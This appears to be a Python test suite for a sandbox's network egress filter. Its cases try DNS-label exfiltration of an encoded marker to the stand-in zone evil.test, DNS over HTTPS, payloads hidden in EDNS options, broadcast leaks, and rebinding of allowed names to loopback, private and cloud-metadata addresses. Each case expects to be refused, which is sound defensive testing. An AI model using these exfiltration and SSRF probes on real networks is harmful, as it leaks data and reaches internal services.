"""C and D: DNS as a way out, and what an allowed name may lead to."""
import base64
import socket
import struct

from bed import (CANARY, CANARY6, MARKER, PROXY, TAG, ask, attempt, dial, get, hello, https, listen_to, outcome_of,
                 question, resolve, send, server_name, talk, told, twin_git, Refused)


@attempt('C01', 'data in the labels of a denied zone', 'NXDOMAIN, nobody is asked')
def _(a):
    if PROXY:
        from names import connect_line
        a.refused('CONNECT', connect_line(f'c01.{MARKER}.t.evil.test'))
        return
    secret = base64.b32encode(MARKER.encode()).decode().strip('=').lower()
    for qtype in (1, 28, 16, 15, 5, 255, 65, 10):
        a.refused(f'type {qtype}', outcome_of(ask(question(f'{qtype}.{MARKER}.{secret[:40]}.t.evil.test', qtype))), 'nxdomain', 'refused', 'notimp')
        a.record('no_rule')
    a.refused('over TCP', outcome_of(ask(question(f'tcp.{MARKER}.t.evil.test'), tcp=True)), 'nxdomain')
    a.record('no_rule')


@attempt('C01', 'data in the labels below an allowed wildcard, looked up only', 'a stand-in, nobody is asked', door='cove')
def _(a):
    a.check('an answer', resolve(f'{MARKER}.pkgs.test').startswith('33.33.'))


@attempt('C02', 'a resolver of one\'s own: UDP, TCP, IPv6, DNS over TLS', 'Cove\'s own answer, or refused', door='cove')
def _(a):
    a.refused('UDP', outcome_of(ask(question(f'udp.{MARKER}.evil.test'), CANARY)), 'nxdomain')
    a.refused('TCP', outcome_of(ask(question(f'tcp2.{MARKER}.evil.test'), CANARY, tcp=True)), 'nxdomain')
    a.record('no_rule', 'no_rule')
    a.refused('UDP over IPv6', outcome_of(ask(question(f'v6.{MARKER}.evil.test'), CANARY6, wait=0.5)), 'timeout')
    a.refused('port 5353', outcome_of(ask(question(f'5353.{MARKER}.evil.test'), CANARY, port=5353, wait=0.5)), 'timeout')
    a.refused('TLS', talk(CANARY, 853, hello(server_name('one.one.one.one'))), 'reset')
    a.record('no_rule')


@attempt('C04', 'DNS over HTTPS: well-known resolvers by name and by address', 'denied')
def _(a):
    for name in ('dns.google', 'cloudflare-dns.com', 'dns.quad9.net'):
        if PROXY:
            from names import connect_line
            a.refused(name, connect_line(name))
        else:
            a.refused(name, outcome_of(ask(question(name))), 'nxdomain')
        a.record('no_rule|dns_over_https')
    if not PROXY:
        for ip in ('8.8.8.8', '1.1.1.1'):
            a.refused(ip, talk(ip, 443, hello()), 'reset')
            a.record('no_name')


@attempt('C05', 'DNS over HTTPS at a host that rules allow', 'refused where rules speak of methods and paths; else its bytes are on record', twin=twin_git)
def _(a):
    a.refused('POST', https('git.test', get('git.test', '/dns-query', 'Content-Type: application/dns-message', method='POST', body=question('x.evil.test'))))
    a.refused('GET', https('git.test', get('git.test', '/dns-query?dns=' + MARKER)))
    a.record('request_not_allowed', 'request_not_allowed')


@attempt('C09', 'a payload in EDNS options, in further sections, behind the question', 'an answer without it, or none; nothing of it goes on', door='cove')
def _(a):
    name, m = f'c09-{TAG}.pkgs.test', MARKER.encode()
    opt = b'\0' + struct.pack('!HHIH', 41, 4096, 0, len(m) + 4) + struct.pack('!HH', 65001, len(m)) + m
    txt = b'\0' + struct.pack('!HHIH', 16, 1, 0, len(m)) + m
    for what, message in (('EDNS', question(name, extra=opt, additional=1)), ('TXT', question(name, extra=txt, additional=1)),
                          ('trailing', question(name) + m), ('two questions', question(name)[:4] + b'\0\2' + question(name)[6:] + question(MARKER + '.evil.test')[12:])):
        a.check(what, outcome_of(ask(message, wait=0.5)) in ('noerror', 'formerr', 'timeout', 'notimp'))
    with dial(name) as s:
        send(s, hello(server_name(name)))
        a.check('the name itself works', told(listen_to(s)) == 'answered')
    a.record('allowed')


def leads_to(a, label, reason='allowed>address_not_public'):
    name = f'{label}.pkgs.test'
    try:
        with dial(name) as s:
            send(s, hello(server_name(name)))
            a.refused(label, told(listen_to(s)), 'reset', 'closed', 'alert')
    except Refused as e:
        a.seen.append(str(e))
    a.record(reason)


@attempt('C11', 'an alias of an allowed name: to a public address, to a private one', 'trust follows the name; the address is judged all the same')
def _(a):
    with dial('cname-evil.pkgs.test') as s:
        send(s, hello(server_name('cname-evil.pkgs.test')))
        a.check('the server answers', told(listen_to(s)) == 'answered')
    a.record('allowed')
    leads_to(a, 'cname-private')


@attempt('C12', 'forged answers towards the resolvers', 'nothing leaves; what claims to be an answer is no question', door='cove')
def _(a):
    reply = question('allowed.test', flags=0x8180)
    a.check('an answer is not answered', ask(reply, wait=0.3) is None)
    for port in (1024, 33333, 53000):
        a.dropped(f'to the resolver\'s port {port}', send_udp, '203.0.113.53', port, reply)
        a.dropped(f'to the front\'s port {port}', send_udp, '10.77.0.2', port, reply)


def send_udp(ip, port, data, broadcast=False):
    """Sends twice: a refusal may come as the second call's error."""
    with socket.socket(socket.AF_INET6 if ':' in ip else socket.AF_INET, socket.SOCK_DGRAM) as s:
        if broadcast:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(0.3)
        s.connect((ip, port))
        s.send(data)
        try:
            s.recv(1)
        except TimeoutError:
            return
        s.send(data)


@attempt('C14', 'mDNS, LLMNR, NetBIOS, SSDP, broadcast', 'refused; no neighbour hears it', door='cove')
def _(a):
    for ip, port in (('224.0.0.251', 5353), ('224.0.0.252', 5355), ('239.255.255.250', 1900), ('255.255.255.255', 137), ('10.0.0.255', 137), ('ff02::fb', 5353), ('ff02::1', 5355)):
        a.dropped(ip, send_udp, ip, port, MARKER.encode(), True)


@attempt('C16', 'a thousand addresses, most of them private, with odd lifetimes', 'a bounded number is judged; none that is private is dialled')
def _(a):
    name = 'many.pkgs.test'
    try:
        with dial(name, wait=8) as s:
            send(s, hello(server_name(name)))
            a.seen.append(told(listen_to(s, 8)))
    except Refused as e:
        a.seen.append(str(e))
    a.record('allowed|allowed>address_not_public|allowed>resolve_failed|allowed>dial_failed')


RANGES = {'this host': '00000000', 'loopback': '7f000001', 'metadata': 'a9fea9fe', 'link-local': 'a9fe0101', '10/8': '0a4d0002', '172.16/12': 'ac100001', '192.168/16': 'c0a80001',
          'CGNAT': '64400001', 'benchmark': 'c6120001', 'multicast': 'e00000fb', 'reserved': 'f0000001', 'broadcast': 'ffffffff', '192.0.0/24': 'c0000001', 'stand-ins': '21210101'}
RANGES6 = {'::1': '1', 'unspecified': '0', 'fc00::/7': 'fd' + '0' * 29 + '1', 'fe80::/10': 'fe80' + '0' * 27 + '1', 'multicast': 'ff02' + '0' * 27 + '1', 'site-local': 'fec0' + '0' * 27 + '1',
           'fd00:ec2::254': 'fd000ec2' + '0' * 21 + '254', 'on-link': 'fd77' + '0' * 27 + '1'}


@attempt('D02', 'an allowed name that leads to every kind of address that is not public', 'never dialled')
def _(a):
    for what, number in RANGES.items():
        if what != 'stand-ins':
            leads_to(a, 'a-' + number)
    for what, number in RANGES6.items():
        leads_to(a, 'q-' + number.rjust(32, '0'))


@attempt('D02', 'an allowed name that leads to the machine itself and its own network', 'never dialled')
def _(a):
    for number in ('0a4d0001', '0a4d0002', 'a9fea9fe'):
        leads_to(a, f'a-{number}', 'allowed>address_not_public')


@attempt('D04', 'a public and a private address for one name', 'only the public one is dialled')
def _(a):
    for label in ('a-7f000001-cb007114', 'a-cb007114-7f000001', 'a-0a4d0002-cb007114-a9fea9fe'):
        name = label + '.pkgs.test'
        with dial(name) as s:
            send(s, hello(server_name(name)))
            a.check(label, told(listen_to(s)) == 'answered')
        a.record('allowed')


@attempt('D06', 'a name that leads to a sandbox\'s address', 'never dialled')
def _(a):
    leads_to(a, 'a-0a000002')
    leads_to(a, 'q-fd' + '0' * 29 + '2')


@attempt('D07', 'evil.test on the address of an allowed server: other SNI, other Host', 'the name decides')
def _(a):
    for sni in ('evil.test', MARKER + '.evil.test', 'plain.test', 'git.test'):
        try:
            with dial('allowed.test') as s:
                send(s, hello(server_name(sni)))
                a.refused(sni, told(listen_to(s)), 'reset', 'closed', 'alert')
        except Refused as e:
            a.seen.append(str(e))
        a.record('name_mismatch')
    if not PROXY:
        a.refused('Host', talk(resolve('plain.test'), 80, get('evil.test')), '403 name_mismatch')
        a.record('name_mismatch')


@attempt('D08', 'a proxy for the front itself (HTTPS_PROXY is set to the canary)', 'the door dials checked addresses itself; a name with a private address stays shut', door='cove')
def _(a):
    leads_to(a, 'a-0a4d0002')
